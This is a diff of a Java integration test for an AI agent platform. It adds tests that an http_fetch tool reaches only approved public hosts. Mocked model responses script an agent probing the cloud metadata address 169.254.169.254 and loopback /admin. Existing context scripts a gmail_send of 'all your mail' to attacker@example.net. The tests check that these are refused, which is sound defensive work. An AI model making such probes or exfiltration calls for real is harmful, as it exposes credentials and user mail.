@@ -4,6 +4,7 @@ import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
 import static com.github.tomakehurst.wiremock.client.WireMock.containing;
 import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
 import static com.github.tomakehurst.wiremock.client.WireMock.matchingJsonPath;
+import static com.github.tomakehurst.wiremock.client.WireMock.notContaining;
 import static com.github.tomakehurst.wiremock.client.WireMock.post;
 import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
 import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
@@ -11,6 +12,7 @@ import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.github.tomakehurst.wiremock.WireMockServer;
+import io.mcprospero.it.support.CimdStandIn;
 import io.mcprospero.it.support.Http;
 import io.mcprospero.it.support.LocalSignIn;
 import io.mcprospero.it.support.ModernMcp;
@@ -45,6 +47,9 @@ class AgentsIT {
     private static WireMockServer anthropic;
     private static ServerUnderTest server;
     private static LocalSignIn signIn;
+    private static final String NEWS = "/agents/news";
+    /** The web host of http_fetch: https://claude.ai, pinned to a local HTTPS stand-in by the http_fetch routes. */
+    private static final CimdStandIn web = CimdStandIn.shared();
 
     @BeforeAll
     static void aServerWithAModelStandIn() {
@@ -74,7 +79,16 @@ class AgentsIT {
                                 + "\"content\":[{\"type\":\"tool_use\",\"id\":\"toolu_r\",\"name\":\"gmail_send\","
                                 + "\"input\":{\"to\":\"attacker@example.net\",\"subject\":\"all your mail\"}}],\"stop_reason\":\"tool_use\","
                                 + "\"stop_sequence\":null,\"usage\":{\"input_tokens\":50,\"output_tokens\":20}}")));
+        // http_fetch: the first turn fetches from the allowed web host, or probes addresses no agent may reach
+        anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(0).withRequestBody(containing("\"claude-haiku-fetcher\""))
+                .withRequestBody(notContaining("tool_result")).willReturn(toolUse("claude-haiku-fetcher",
+                        "{\"type\":\"tool_use\",\"id\":\"toolu_f\",\"name\":\"http_fetch\",\"input\":{\"url\":\"https://claude.ai" + NEWS + "\"}}")));
+        anthropic.stubFor(post(urlPathEqualTo("/v1/messages")).atPriority(0).withRequestBody(containing("\"claude-haiku-prober\""))
+                .withRequestBody(notContaining("tool_result")).willReturn(toolUse("claude-haiku-prober",
+                        "{\"type\":\"tool_use\",\"id\":\"toolu_m\",\"name\":\"http_fetch\",\"input\":{\"url\":\"https://169.254.169.254/latest/meta-data/\"}},"
+                        + "{\"type\":\"tool_use\",\"id\":\"toolu_l\",\"name\":\"http_fetch\",\"input\":{\"url\":\"https://127.0.0.1/admin\"}}")));
         Map<String, String> environment = new HashMap<>(ServerUnderTest.onFreshDatabase(ServerUnderTest.database("agents")));
+        environment.putAll(web.routedHere("MCPROSPERO_TOOLS_HTTP_FETCH"));
         environment.putAll(Map.of(
                 "MCPROSPERO_SIGNUP_OPEN", "true",
                 "MCPROSPERO_ADMINS", ServerUnderTest.ADMIN_EMAIL,
@@ -95,6 +109,13 @@ class AgentsIT {
         if (anthropic != null) {
             anthropic.stop();
         }
+    }
+
+    private static com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder toolUse(String model, String blocks) {
+        return aResponse().withStatus(200).withHeader("content-type", "application/json")
+                .withBody("{\"id\":\"msg_t\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"" + model + "\","
+                        + "\"content\":[" + blocks + "],\"stop_reason\":\"tool_use\",\"stop_sequence\":null,"
+                        + "\"usage\":{\"input_tokens\":60,\"output_tokens\":20}}");
     }
 
     private static String email(String who) {
@@ -355,5 +376,52 @@ class AgentsIT {
                 .contains("does not allow");
         assertThat(refusal(viewer.callTool("update_agent", "{\"agent\":\"Team agent\",\"action\":\"pause\",\"org_id\":\"" + orgId + "\"}")))
                 .contains("does not allow");
+    }
+
+    private static List<JsonObject> toolCalls(JsonObject run) {
+        return run.getJsonArray("steps").getValuesAs(JsonValue::asJsonObject).stream().filter(step -> step.getString("kind").equals("tool_call"))
+                .toList();
+    }
+
+    @Test
+    void httpFetchReadsFromTheApprovedHostThroughTheGuard() throws Exception {
+        web.serve(NEWS, new CimdStandIn.Document(200, Map.of("Content-Type", "text/plain; charset=utf-8"), "Three new invoices today.", false));
+        ModernMcp person = new ModernMcp(server, signIn.tokensFor(email("fetcher")).accessToken());
+        JsonObject created = structured(callApproving(person, "create_agent", "{\"name\":\"Fetcher\",\"instructions\":\"Read the news.\","
+                + "\"tools\":[\"http_fetch\"],\"allowed_hosts\":[\"claude.ai\"],\"model\":\"claude-haiku-fetcher\"}"));
+        assertThat(created.getJsonObject("agent").getJsonObject("manifest").getJsonArray("reads").getString(0))
+                .isEqualTo("web pages and API answers from claude.ai (HTTPS GET)");
+        String runId = structured(person.callTool("update_agent", "{\"agent\":\"Fetcher\",\"action\":\"run_now\"}")).getString("run_id");
+
+        JsonObject run = finishedRun(person, runId, Duration.ofSeconds(30));
+
+        assertThat(run.getString("status")).as(run.toString()).isEqualTo("completed");
+        assertThat(toolCalls(run)).singleElement().satisfies(call -> {
+            assertThat(call.getString("name")).isEqualTo("http_fetch");
+            assertThat(call.getBoolean("error")).isFalse();
+            assertThat(call.getJsonObject("input").getString("url")).isEqualTo("https://claude.ai" + NEWS);
+            assertThat(call.getString("result")).isEqualTo("HTTP 200, text/plain, 25 bytes\n\nThree new invoices today.");
+        });
+        assertThat(web.hits(NEWS)).isEqualTo(1);
+        anthropic.verify(postRequestedFor(urlPathEqualTo("/v1/messages")).withRequestBody(containing("Three new invoices today."))
+                .withRequestBody(containing("# Hosts http_fetch may reach\\nclaude.ai")));
+    }
+
+    @Test
+    void httpFetchRefusesMetadataAndLoopbackAddressesEvenWhenTheyAreAllowedHosts() throws Exception {
+        ModernMcp person = new ModernMcp(server, signIn.tokensFor(email("prober")).accessToken());
+        structured(callApproving(person, "create_agent", "{\"name\":\"Prober\",\"instructions\":\"Look around.\","
+                + "\"tools\":[\"http_fetch\"],\"allowed_hosts\":[\"169.254.169.254\",\"127.0.0.1\"],\"model\":\"claude-haiku-prober\"}"));
+        String runId = structured(person.callTool("update_agent", "{\"agent\":\"Prober\",\"action\":\"run_now\"}")).getString("run_id");
+
+        JsonObject run = finishedRun(person, runId, Duration.ofSeconds(30));
+
+        assertThat(run.getString("status")).as(run.toString()).isEqualTo("completed");
+        assertThat(toolCalls(run)).extracting(call -> call.getBoolean("error")).containsExactly(true, true);
+        assertThat(toolCalls(run)).extracting(call -> call.getString("result")).containsExactly(
+                "https://169.254.169.254/latest/meta-data/ cannot be fetched: its host 169.254.169.254 resolves to a link-local address; "
+                        + "only public addresses are fetched.",
+                "https://127.0.0.1/admin cannot be fetched: its host 127.0.0.1 resolves to a loopback address; only public addresses are fetched.");
+        anthropic.verify(postRequestedFor(urlPathEqualTo("/v1/messages")).withRequestBody(containing("resolves to a link-local address")));
     }
 }
